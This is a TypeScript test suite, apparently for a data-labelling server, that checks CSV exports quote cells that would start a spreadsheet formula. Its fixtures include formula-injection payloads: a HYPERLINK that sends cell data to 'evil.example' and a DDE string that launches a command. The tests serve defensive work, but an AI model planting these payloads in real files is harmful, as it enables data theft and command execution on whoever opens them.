import { parse } from 'csv-parse/sync';
import type { Task } from '../../shared/protocol';
import { invite, jsonl, makeProject, ok, startServer, type TestServer } from '../helpers/server';

let s: TestServer;
beforeEach(async () => {
  s = await startServer();
});
afterEach(async () => {
  await s.close();
});

const get = async (route: string) => {
  const res = await fetch(s.url + route, { headers: { authorization: `Bearer ${s.token}` } });
  return { status: res.status, text: await res.text() };
};
const rowsOf = (text: string) => parse(text, { columns: true }) as Array<Record<string, string>>;
const lines = (text: string) => text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));

/** A cell a spreadsheet would read as a formula (OWASP's list: =, +, -, @, tab, carriage return); a number is a number. */
const FORMULA = /^(?!-?\d+(\.\d+)?$)[=+\-@\t\r]/;

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const CMD = "+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd';

/**
 * A rating project whose item id, question, answer and meta, annotator names, worker id and rationales are all
 * hostile, with one honest rating of -1 that must stay a number.
 */
async function hostile(): Promise<number> {
  const items = [
    { id: '=1+1', question: HYPERLINK, answer: '\tTAB', rubric: '\rCR', meta: { note: '-2+3' } },
    { id: 'plain', question: 'What is fine?', answer: 'ok' },
  ];
  const pid = await makeProject(s, { type: 'rating', scale: { min: -3, max: 3 }, redundancy: 3, rationale: 'optional' }, items);
  const labels = [
    { item: '=1+1', annotator: CMD, value: 2, rationale: AT },
    { item: '=1+1', annotator: '=EVIL()', value: 2, rationale: '-5+5' },
    { item: 'plain', annotator: CMD, value: -1, rationale: 'honest' },
  ];
  const r = await s.api('POST', `/api/projects/${pid}/labels`, jsonl(labels), { type: 'application/x-ndjson' });
  expect(r.body).toEqual({ imported: 3 });
  // A crowd worker id through the real join link: ids may contain - + @ and so can start with one.
  const c = await s.connect({ token: await invite(s, pid), worker: '-2+3@x' });
  const t = await ok<Task | null>(c, 'task:next');
  // Agreeing with the item's other labels, so both items keep a consensus whichever one is served.
  await ok(c, 'label:submit', { leaseId: t!.leaseId, value: t!.item.id === 'plain' ? -1 : 2, rationale: HYPERLINK, clientLabelId: 'w1' });
  return pid;
}

describe('CSV exports are safe to open in a spreadsheet', () => {
  test('no cell of the labels CSV starts a formula: hostile names, worker ids and rationales get a leading quote, a rating of -1 stays -1', async () => {
    const pid = await hostile();
    const r = await get(`/api/projects/${pid}/export?kind=labels&format=csv`);
    expect(r.status).toBe(200);
    const rows = rowsOf(r.text);
    expect(rows).toHaveLength(4);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
    expect(rows.map((x) => x.annotator).sort()).toEqual(["'+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "'-2+3@x", "'=EVIL()"].sort());
    expect(rows.map((x) => x.item)).toContain("'=1+1");
    expect(rows.map((x) => x.rationale)).toEqual(expect.arrayContaining(["'" + AT, "'-5+5", "'" + HYPERLINK]));
    // Numbers stay numbers: the honest rating of -1 is not quoted.
    expect(rows.find((x) => x.rationale === 'honest')!.value).toBe('-1');
  });

  test('no cell of the gold CSV starts a formula: item id, question, answer and rubric are quoted', async () => {
    const pid = await hostile();
    const rows = rowsOf((await get(`/api/projects/${pid}/export?kind=gold&format=csv`)).text);
    const q = rows.find((x) => x.id === "'=1+1")!;
    expect(q).toMatchObject({ question: "'" + HYPERLINK, answer: "'\tTAB", rubric: "'\rCR", label: '2' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(FORMULA);
    expect(JSON.parse(q.meta!)).toEqual({ note: '-2+3' });
    // The plain item's consensus is the rating -1, a number, unquoted.
    expect(rows.find((x) => x.id === 'plain')!.label).toBe('-1');
  });

  test('JSONL exports keep every value exactly as written', async () => {
    const pid = await hostile();
    const labels = lines((await get(`/api/projects/${pid}/export?kind=labels`)).text);
    expect(labels.map((l) => l.annotator)).toEqual(expect.arrayContaining([CMD, '=EVIL()', '-2+3@x']));
    expect(labels.map((l) => l.rationale)).toEqual(expect.arrayContaining([AT, '-5+5', HYPERLINK]));
    expect(labels.find((l) => l.rationale === 'honest').value).toBe(-1);
    const gold = lines((await get(`/api/projects/${pid}/export?kind=gold`)).text);
    expect(gold.find((g) => g.id === '=1+1')).toMatchObject({ question: HYPERLINK, answer: '\tTAB', rubric: '\rCR', meta: { note: '-2+3' } });
  });
});
